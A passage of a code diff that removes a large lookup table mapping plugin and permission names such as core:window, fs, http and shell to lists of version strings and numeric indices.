-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7"
-        ],
-        5
-      ],
-      [
-        [
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0",
-          "2.0.1",
-          "2.4.0~",
-          "2.4.2~"
-        ],
-        6
-      ]
-    ],
-    biometric: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6"
-        ],
-        7
-      ],
-      [
-        [
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0",
-          "2.0.1"
-        ],
-        8
-      ]
-    ],
-    cli: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0",
-          "2.0.1",
-          "2.4.0~",
-          "2.4.1~"
-        ],
-        9
-      ]
-    ],
-    "clipboard-manager": [
-      [["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2"], 10],
-      [
-        ["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0", "2.0.1", "2.0.2~"],
-        11
-      ],
-      [["2.1.0-beta.0", "2.1.0-beta.1", "2.1.0-beta.2", "2.1.0-beta.3", "2.1.0-beta.4"], 12],
-      [
-        [
-          "2.1.0-beta.5",
-          "2.1.0-beta.6",
-          "2.1.0-beta.7",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.2.3~",
-          "2.3.0~",
-          "2.3.2~"
-        ],
-        11
-      ]
-    ],
-    core: [
-      [
-        [
-          "2.0.0-rc.12",
-          "2.0.0-rc.13",
-          "2.0.0-rc.14",
-          "2.0.0-rc.15",
-          "2.0.0-rc.16",
-          "2.0.0-rc.17",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4",
-          "2.0.5",
-          "2.0.6",
-          "2.1.0~",
-          "2.1.1~",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.2.3~",
-          "2.2.5~",
-          "2.3.1~",
-          "2.4.0~",
-          "2.4.1~",
-          "2.5.1~",
-          "2.6.0~",
-          "2.6.2~",
-          "2.7.0~",
-          "2.8.3~",
-          "2.8.4~",
-          "2.8.5~",
-          "2.9.1~",
-          "2.9.2~",
-          "2.9.3~",
-          "2.9.4~",
-          "2.9.5~",
-          "2.10.1~",
-          "2.10.2~",
-          "2.10.3~",
-          "2.11.0~",
-          "2.11.5~"
-        ],
-        13
-      ]
-    ],
-    "core:app": [
-      [
-        [
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0-rc.8",
-          "2.0.0-rc.9",
-          "2.0.0-rc.10",
-          "2.0.0-rc.11",
-          "2.0.0-rc.12",
-          "2.0.0-rc.13",
-          "2.0.0-rc.14",
-          "2.0.0-rc.15"
-        ],
-        1
-      ],
-      [
-        [
-          "2.0.0-rc.16",
-          "2.0.0-rc.17",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4",
-          "2.0.5",
-          "2.0.6",
-          "2.1.0~",
-          "2.1.1~",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.2.3~",
-          "2.2.5~",
-          "2.3.1~"
-        ],
-        14
-      ],
-      [["2.4.0~", "2.4.1~"], 15],
-      [["2.5.1~", "2.6.0~", "2.6.2~"], 16],
-      [["2.7.0~", "2.8.3~", "2.8.4~", "2.8.5~"], 17],
-      [["2.9.1~", "2.9.2~", "2.9.3~", "2.9.4~", "2.9.5~", "2.10.1~", "2.10.2~", "2.10.3~"], 18],
-      [["2.11.0~", "2.11.5~"], 19]
-    ],
-    "core:event": [
-      [
-        [
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0-rc.8",
-          "2.0.0-rc.9",
-          "2.0.0-rc.10",
-          "2.0.0-rc.11",
-          "2.0.0-rc.12",
-          "2.0.0-rc.13",
-          "2.0.0-rc.14",
-          "2.0.0-rc.15",
-          "2.0.0-rc.16",
-          "2.0.0-rc.17",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4",
-          "2.0.5",
-          "2.0.6",
-          "2.1.0~",
-          "2.1.1~",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.2.3~",
-          "2.2.5~",
-          "2.3.1~",
-          "2.4.0~",
-          "2.4.1~",
-          "2.5.1~",
-          "2.6.0~",
-          "2.6.2~",
-          "2.7.0~",
-          "2.8.3~",
-          "2.8.4~",
-          "2.8.5~",
-          "2.9.1~",
-          "2.9.2~",
-          "2.9.3~",
-          "2.9.4~",
-          "2.9.5~",
-          "2.10.1~",
-          "2.10.2~",
-          "2.10.3~",
-          "2.11.0~",
-          "2.11.5~"
-        ],
-        20
-      ]
-    ],
-    "core:image": [
-      [
-        [
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0-rc.8",
-          "2.0.0-rc.9",
-          "2.0.0-rc.10",
-          "2.0.0-rc.11",
-          "2.0.0-rc.12",
-          "2.0.0-rc.13",
-          "2.0.0-rc.14",
-          "2.0.0-rc.15",
-          "2.0.0-rc.16",
-          "2.0.0-rc.17",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4",
-          "2.0.5",
-          "2.0.6",
-          "2.1.0~",
-          "2.1.1~",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.2.3~",
-          "2.2.5~",
-          "2.3.1~",
-          "2.4.0~",
-          "2.4.1~",
-          "2.5.1~",
-          "2.6.0~",
-          "2.6.2~",
-          "2.7.0~",
-          "2.8.3~",
-          "2.8.4~",
-          "2.8.5~",
-          "2.9.1~",
-          "2.9.2~",
-          "2.9.3~",
-          "2.9.4~",
-          "2.9.5~",
-          "2.10.1~",
-          "2.10.2~",
-          "2.10.3~",
-          "2.11.0~",
-          "2.11.5~"
-        ],
-        21
-      ]
-    ],
-    "core:menu": [
-      [
-        [
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0-rc.8",
-          "2.0.0-rc.9",
-          "2.0.0-rc.10",
-          "2.0.0-rc.11",
-          "2.0.0-rc.12",
-          "2.0.0-rc.13",
-          "2.0.0-rc.14",
-          "2.0.0-rc.15",
-          "2.0.0-rc.16",
-          "2.0.0-rc.17",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4",
-          "2.0.5",
-          "2.0.6",
-          "2.1.0~",
-          "2.1.1~",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.2.3~",
-          "2.2.5~",
-          "2.3.1~",
-          "2.4.0~",
-          "2.4.1~",
-          "2.5.1~",
-          "2.6.0~",
-          "2.6.2~",
-          "2.7.0~",
-          "2.8.3~",
-          "2.8.4~",
-          "2.8.5~",
-          "2.9.1~",
-          "2.9.2~",
-          "2.9.3~",
-          "2.9.4~",
-          "2.9.5~",
-          "2.10.1~",
-          "2.10.2~",
-          "2.10.3~",
-          "2.11.0~",
-          "2.11.5~"
-        ],
-        22
-      ]
-    ],
-    "core:path": [
-      [
-        [
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0-rc.8",
-          "2.0.0-rc.9",
-          "2.0.0-rc.10",
-          "2.0.0-rc.11",
-          "2.0.0-rc.12",
-          "2.0.0-rc.13",
-          "2.0.0-rc.14",
-          "2.0.0-rc.15",
-          "2.0.0-rc.16",
-          "2.0.0-rc.17",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4",
-          "2.0.5",
-          "2.0.6",
-          "2.1.0~",
-          "2.1.1~",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.2.3~",
-          "2.2.5~",
-          "2.3.1~",
-          "2.4.0~",
-          "2.4.1~",
-          "2.5.1~",
-          "2.6.0~",
-          "2.6.2~",
-          "2.7.0~",
-          "2.8.3~",
-          "2.8.4~",
-          "2.8.5~",
-          "2.9.1~",
-          "2.9.2~",
-          "2.9.3~",
-          "2.9.4~",
-          "2.9.5~",
-          "2.10.1~",
-          "2.10.2~",
-          "2.10.3~",
-          "2.11.0~",
-          "2.11.5~"
-        ],
-        23
-      ]
-    ],
-    "core:resources": [
-      [
-        [
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0-rc.8",
-          "2.0.0-rc.9",
-          "2.0.0-rc.10",
-          "2.0.0-rc.11",
-          "2.0.0-rc.12",
-          "2.0.0-rc.13",
-          "2.0.0-rc.14",
-          "2.0.0-rc.15",
-          "2.0.0-rc.16",
-          "2.0.0-rc.17",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4",
-          "2.0.5",
-          "2.0.6",
-          "2.1.0~",
-          "2.1.1~",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.2.3~",
-          "2.2.5~",
-          "2.3.1~",
-          "2.4.0~",
-          "2.4.1~",
-          "2.5.1~",
-          "2.6.0~",
-          "2.6.2~",
-          "2.7.0~",
-          "2.8.3~",
-          "2.8.4~",
-          "2.8.5~",
-          "2.9.1~",
-          "2.9.2~",
-          "2.9.3~",
-          "2.9.4~",
-          "2.9.5~",
-          "2.10.1~",
-          "2.10.2~",
-          "2.10.3~",
-          "2.11.0~",
-          "2.11.5~"
-        ],
-        24
-      ]
-    ],
-    "core:tray": [
-      [
-        [
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0-rc.8",
-          "2.0.0-rc.9",
-          "2.0.0-rc.10",
-          "2.0.0-rc.11",
-          "2.0.0-rc.12",
-          "2.0.0-rc.13",
-          "2.0.0-rc.14",
-          "2.0.0-rc.15",
-          "2.0.0-rc.16",
-          "2.0.0-rc.17",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4",
-          "2.0.5",
-          "2.0.6",
-          "2.1.0~",
-          "2.1.1~",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.2.3~",
-          "2.2.5~",
-          "2.3.1~",
-          "2.4.0~",
-          "2.4.1~",
-          "2.5.1~",
-          "2.6.0~",
-          "2.6.2~",
-          "2.7.0~",
-          "2.8.3~",
-          "2.8.4~",
-          "2.8.5~",
-          "2.9.1~",
-          "2.9.2~",
-          "2.9.3~",
-          "2.9.4~",
-          "2.9.5~",
-          "2.10.1~",
-          "2.10.2~",
-          "2.10.3~"
-        ],
-        25
-      ],
-      [["2.11.0~", "2.11.5~"], 26]
-    ],
-    "core:webview": [
-      [["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2"], 27],
-      [
-        [
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0-rc.8",
-          "2.0.0-rc.9",
-          "2.0.0-rc.10",
-          "2.0.0-rc.11",
-          "2.0.0-rc.12",
-          "2.0.0-rc.13",
-          "2.0.0-rc.14",
-          "2.0.0-rc.15"
-        ],
-        28
-      ],
-      [
-        [
-          "2.0.0-rc.16",
-          "2.0.0-rc.17",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4",
-          "2.0.5",
-          "2.0.6",
-          "2.1.0~",
-          "2.1.1~"
-        ],
-        29
-      ],
-      [["2.2.0~", "2.2.1~", "2.2.2~", "2.2.3~", "2.2.5~", "2.3.1~", "2.4.0~", "2.4.1~", "2.5.1~"], 30],
-      [
-        [
-          "2.6.0~",
-          "2.6.2~",
-          "2.7.0~",
-          "2.8.3~",
-          "2.8.4~",
-          "2.8.5~",
-          "2.9.1~",
-          "2.9.2~",
-          "2.9.3~",
-          "2.9.4~",
-          "2.9.5~",
-          "2.10.1~",
-          "2.10.2~",
-          "2.10.3~",
-          "2.11.0~",
-          "2.11.5~"
-        ],
-        31
-      ]
-    ],
-    "core:window": [
-      [["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2"], 32],
-      [
-        [
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0-rc.8",
-          "2.0.0-rc.9",
-          "2.0.0-rc.10",
-          "2.0.0-rc.11",
-          "2.0.0-rc.12",
-          "2.0.0-rc.13",
-          "2.0.0-rc.14",
-          "2.0.0-rc.15"
-        ],
-        33
-      ],
-      [
-        [
-          "2.0.0-rc.16",
-          "2.0.0-rc.17",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4",
-          "2.0.5",
-          "2.0.6",
-          "2.1.0~",
-          "2.1.1~"
-        ],
-        34
-      ],
-      [["2.2.0~", "2.2.1~", "2.2.2~", "2.2.3~", "2.2.5~", "2.3.1~"], 35],
-      [["2.4.0~", "2.4.1~", "2.5.1~", "2.6.0~", "2.6.2~", "2.7.0~"], 36],
-      [
-        [
-          "2.8.3~",
-          "2.8.4~",
-          "2.8.5~",
-          "2.9.1~",
-          "2.9.2~",
-          "2.9.3~",
-          "2.9.4~",
-          "2.9.5~",
-          "2.10.1~",
-          "2.10.2~",
-          "2.10.3~"
-        ],
-        37
-      ],
-      [["2.11.0~", "2.11.5~"], 38]
-    ],
-    "deep-link": [
-      [["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4"], 39],
-      [
-        [
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0",
-          "2.0.1",
-          "2.2.0~",
-          "2.4.2~",
-          "2.4.5~",
-          "2.4.6~",
-          "2.4.7~"
-        ],
-        40
-      ]
-    ],
-    dialog: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9"
-        ],
-        41
-      ],
-      [
-        [
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0-rc.7",
-          "2.0.0-rc.8",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4~",
-          "2.0.5~",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.3.0~",
-          "2.3.1~",
-          "2.3.2~",
-          "2.3.3~",
-          "2.4.0~",
-          "2.4.2~",
-          "2.5.0~",
-          "2.6.0~"
-        ],
-        42
-      ],
-      [["2.7.0~", "2.7.1~", "2.7.2~"], 43]
-    ],
-    event: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-beta.13",
-          "2.0.0-beta.14",
-          "2.0.0-beta.15",
-          "2.0.0-beta.16",
-          "2.0.0-beta.17",
-          "2.0.0-beta.18",
-          "2.0.0-beta.19",
-          "2.0.0-beta.20",
-          "2.0.0-beta.21",
-          "2.0.0-beta.22",
-          "2.0.0-beta.23",
-          "2.0.0-beta.24",
-          "2.0.0-beta.25"
-        ],
-        20
-      ]
-    ],
-    fs: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9"
-        ],
-        44
-      ],
-      [["2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-rc.0"], 45],
-      [["2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4"], 46],
-      [["2.0.0-rc.5", "2.0.0-rc.6", "2.0.0", "2.0.1", "2.0.2", "2.0.3"], 47],
-      [["2.1.0~", "2.2.0~", "2.2.1~", "2.3.0~", "2.4.0~", "2.4.1~", "2.4.2~", "2.4.4~", "2.4.5~"], 48],
-      [["2.5.0~", "2.5.1~"], 49]
-    ],
-    geolocation: [
-      [["2.0.0-rc.0"], 50],
-      [["2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3"], 51],
-      [["2.0.0-rc.4", "2.0.0", "2.0.1"], 52]
-    ],
-    "global-shortcut": [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6"
-        ],
-        53
-      ],
-      [
-        [
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0",
-          "2.0.1",
-          "2.2.0~",
-          "2.2.1~",
-          "2.3.0~",
-          "2.3.1~",
-          "2.3.2~"
-        ],
-        54
-      ]
-    ],
-    haptics: [
-      [["2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0", "2.0.1", "2.3.0~", "2.3.2~"], 55]
-    ],
-    http: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-beta.13",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0-rc.6",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.0.3",
-          "2.0.4~",
-          "2.2.0~",
-          "2.3.0~",
-          "2.4.2~",
-          "2.4.3~",
-          "2.4.4~",
-          "2.5.0~",
-          "2.5.1~",
-          "2.5.2~",
-          "2.5.4~"
-        ],
-        56
-      ],
-      [["2.5.7~", "2.5.8~", "2.5.9~"], 57]
-    ],
-    image: [
-      [["2.0.0-beta.9", "2.0.0-beta.10"], 58],
-      [["2.0.0-beta.11"], 59],
-      [
-        [
-          "2.0.0-beta.12",
-          "2.0.0-beta.13",
-          "2.0.0-beta.14",
-          "2.0.0-beta.15",
-          "2.0.0-beta.16",
-          "2.0.0-beta.17",
-          "2.0.0-beta.18",
-          "2.0.0-beta.19",
-          "2.0.0-beta.20",
-          "2.0.0-beta.21",
-          "2.0.0-beta.22",
-          "2.0.0-beta.23",
-          "2.0.0-beta.24",
-          "2.0.0-beta.25"
-        ],
-        21
-      ]
-    ],
-    log: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0",
-          "2.0.1",
-          "2.2.0~",
-          "2.2.1~",
-          "2.3.1~",
-          "2.6.0~",
-          "2.7.1~",
-          "2.8.0~",
-          "2.9.0~"
-        ],
-        60
-      ]
-    ],
-    menu: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-beta.13",
-          "2.0.0-beta.14",
-          "2.0.0-beta.15",
-          "2.0.0-beta.16",
-          "2.0.0-beta.17",
-          "2.0.0-beta.18",
-          "2.0.0-beta.19",
-          "2.0.0-beta.20",
-          "2.0.0-beta.21",
-          "2.0.0-beta.22"
-        ],
-        61
-      ],
-      [["2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"], 22]
-    ],
-    nfc: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6"
-        ],
-        62
-      ],
-      [
-        [
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0",
-          "2.0.1"
-        ],
-        63
-      ]
-    ],
-    notification: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8"
-        ],
-        64
-      ],
-      [
-        [
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0-rc.5",
-          "2.0.0",
-          "2.0.1",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.2.3~",
-          "2.3.0~",
-          "2.3.1~",
-          "2.3.3~"
-        ],
-        65
-      ]
-    ],
-    opener: [
-      [
-        ["2.2.2~", "2.2.3~", "2.2.5~", "2.2.6~", "2.3.0~", "2.4.0~", "2.5.0~", "2.5.2~", "2.5.3~", "2.5.4~"],
-        66
-      ]
-    ],
-    os: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6"
-        ],
-        67
-      ],
-      [
-        [
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0",
-          "2.0.1",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.3.0~",
-          "2.3.1~",
-          "2.3.2~"
-        ],
-        68
-      ]
-    ],
-    path: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-beta.13",
-          "2.0.0-beta.14",
-          "2.0.0-beta.15",
-          "2.0.0-beta.16",
-          "2.0.0-beta.17",
-          "2.0.0-beta.18",
-          "2.0.0-beta.19",
-          "2.0.0-beta.20",
-          "2.0.0-beta.21",
-          "2.0.0-beta.22",
-          "2.0.0-beta.23",
-          "2.0.0-beta.24",
-          "2.0.0-beta.25"
-        ],
-        23
-      ]
-    ],
-    positioner: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1"
-        ],
-        69
-      ],
-      [["2.0.0-rc.2", "2.0.0", "2.0.1"], 70],
-      [["2.0.2"], 71]
-    ],
-    process: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6"
-        ],
-        72
-      ],
-      [
-        [
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0",
-          "2.0.1",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.3.0~",
-          "2.3.1~"
-        ],
-        73
-      ]
-    ],
-    resources: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7",
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
-          "2.0.0-beta.12",
-          "2.0.0-beta.13",
-          "2.0.0-beta.14",
-          "2.0.0-beta.15",
-          "2.0.0-beta.16",
-          "2.0.0-beta.17",
-          "2.0.0-beta.18",
-          "2.0.0-beta.19",
-          "2.0.0-beta.20",
-          "2.0.0-beta.21",
-          "2.0.0-beta.22",
-          "2.0.0-beta.23",
-          "2.0.0-beta.24",
-          "2.0.0-beta.25"
-        ],
-        24
-      ]
-    ],
-    shell: [
-      [["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4"], 74],
-      [["2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7"], 75],
-      [
-        [
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-rc.0",
-          "2.0.0-rc.1",
-          "2.0.0-rc.2",
-          "2.0.0-rc.3",
-          "2.0.0-rc.4",
-          "2.0.0",
-          "2.0.1",
-          "2.0.2",
-          "2.2.0~",
-          "2.2.1~",
-          "2.2.2~",
-          "2.3.0~",
-          "2.3.1~",
-          "2.3.3~",
-          "2.3.4~",
-          "2.3.5~"
-        ],
-        76
-      ]
-    ],
-    sql: [
-      [
-        [
-          "2.0.0-beta.0",
-          "2.0.0-beta.1",
-          "2.0.0-beta.2",
-          "2.0.0-beta.3",
-          "2.0.0-beta.4",
-          "2.0.0-beta.5",
-          "2.0.0-beta.6",
-          "2.0.0-beta.7"
-        ],
-        77
-      ],
-      [
-        [
-          "2.0.0-beta.8",
-          "2.0.0-beta.9",
-          "2.0.0-beta.10",
-          "2.0.0-beta.11",
